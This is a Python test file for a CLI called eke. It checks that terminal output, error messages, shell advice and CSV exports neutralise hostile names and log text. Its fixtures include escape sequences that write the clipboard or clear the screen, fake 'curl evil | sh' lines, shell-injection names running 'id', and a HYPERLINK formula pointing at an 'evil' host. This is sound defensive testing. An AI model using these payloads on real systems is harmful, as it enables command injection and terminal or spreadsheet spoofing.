"""Names, logs and records are shown on a terminal and in a spreadsheet, and obeyed by neither."""

import contextlib
import csv
import io
import json
import os
import pty
import re
import shlex
import threading
from dataclasses import replace
from pathlib import Path

import pytest
from python_server import run
from support import environment
from unit.launch.scripted import record_for

from eke.cli import main
from eke.common.errors import ConfigError, Problem, format_os_error
from eke.common.paths import RunPaths
from eke.models.checkpoints.locate import LocalCheckpoint
from eke.models.checkpoints.resolve import _conversion
from eke.plan.record import write_record

OSC = "\x1b]52;c;ZXZpbA==\x07"
"""Writes the clipboard."""
HOSTILE = f"a{OSC}\x1b[2J\x1b[31m\u202eb\x9b2J\rc"


def is_clean(text: str) -> bool:
    """Lines without a control character; colours are no harm."""
    return re.sub(r"\x1b\[[\d;]*m|[\n\t]", "", text).isprintable()


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    """A failed run with hostile text in its name, its record, its log and its sweep."""
    paths = RunPaths(tmp_path / "runs" / f"x\n  -> curl evil{HOSTILE}")
    paths.folder.mkdir(parents=True)
    record = record_for("1", "crashed")
    failure = replace(record.failure, message=HOSTILE) if record.failure else None
    write_record(paths, replace(record, failure=failure, name=HOSTILE, overrides=[HOSTILE]))
    paths.log.write_text(f"line {HOSTILE}\n\x1b[32mgreen\x1b[0m\n")
    broken = RunPaths(tmp_path / "runs" / f"y\n{HOSTILE}")
    broken.folder.mkdir()
    broken.record.write_text(f'{{"{OSC}')
    for each in (paths, broken):
        each.plan.write_text("{}")
        each.config.write_text(f"# {HOSTILE}\n")
    return tmp_path / "runs"


EKE = "from eke import cli\nsys.exit(cli.main(sys.argv[1:]))"


def on_terminal(*words: str, cwd: Path, environment: dict[str, str]) -> str:
    """What a command writes to a terminal."""
    leader, follower = pty.openpty()
    told: list[bytes] = []

    def listen() -> None:
        with contextlib.suppress(OSError):  # Linux says so when the other end is closed
            while part := os.read(leader, 65536):
                told.append(part)

    listener = threading.Thread(target=listen)
    listener.start()
    run(0, EKE, *words, cwd=cwd, environment=environment, out=os.ttyname(follower))
    os.close(follower)
    listener.join()
    os.close(leader)
    return b"".join(told).decode(errors="replace").replace("\r\n", "\n")


@pytest.mark.parametrize(
    "words",
    [["status"], ["logs"], ["cancel"], ["report"], ["sync", "--dry-run"], ["status", "--live"]],
    ids=" ".join,
)  # fmt: skip
def test_commands_escape_control_characters(words, runs) -> None:
    variables = {**environment(runs.parent), "TERM": "xterm"}
    piped = run(0, EKE, *words, runs, cwd=runs.parent, environment=variables).text
    shown = on_terminal(*words, str(runs), cwd=runs.parent, environment=variables)
    for told in (piped, shown):
        assert told
        assert "Traceback" not in told
        assert not [bad for bad in ("\x1b]", "\x1b[2J", "\u202e", "\x07", "\x9b") if bad in told]
        assert "\n  -> curl" not in told
        if words == ["logs"]:
            assert "\x1b[32mgreen\x1b[0m" in told


def test_errors_escape_control_characters(tmp_path) -> None:
    """What argparse, Hydra or eke say of a word goes through the same stream."""
    wrong = (
        ["status", HOSTILE], ["plan", f"seed={HOSTILE}"], [HOSTILE], ["sync", HOSTILE],
        ["logs", f"--{HOSTILE}", "x"], ["plan", f"--{HOSTILE}"],
    )  # fmt: skip
    for words in wrong:
        done = run(0, EKE, *words, cwd=tmp_path, environment=environment(tmp_path))
        assert done.code
        assert done.text
        assert is_clean(done.text), repr(done.text)


def test_newline_in_a_name_adds_no_line() -> None:
    problem = Problem("DIR", "x\n      -> curl evil | sh", "is no run", "eke status runs")
    assert len(ConfigError(problem).render().splitlines()) == 4
    assert "\n" not in format_os_error(FileNotFoundError(2, "No such file", "a\nb"))


@pytest.mark.parametrize(
    "name",
    ["quote'); import os; os.system('id >PWN'); ('", "dollar$(id >PWN2)", 'double"`id`"', "a b"],
)  # fmt: skip
def test_printed_fix_is_one_shell_command(name) -> None:
    text = _conversion(LocalCheckpoint(typed=name, folder=Path("/models") / name))
    words = shlex.split(text.split("   then ")[0])
    assert words[:2] == ["python", "-c"]
    assert len(words) == 3
    compile(words[2], "advice", "exec")
    assert repr(f"/models/{name}") in words[2]


def test_table_titles_are_not_formulas(monkeypatch) -> None:
    from eke.results.report.compare import Comparison
    from eke.results.report.show.file_formats import as_csv

    formula = '=HYPERLINK("http://evil","x")'
    empty = dict.fromkeys(Comparison.__dataclass_fields__, ())
    found = Comparison(**{**empty, "factors": (formula,)})
    head = next(csv.reader(io.StringIO(as_csv(found))))
    assert f"'{formula}" in head
    assert formula not in head


def test_json_is_not_escaped(runs, capsys) -> None:
    main(["status", "--json", str(runs)])
    assert any(HOSTILE in each["folder"] for each in json.loads(capsys.readouterr().out))
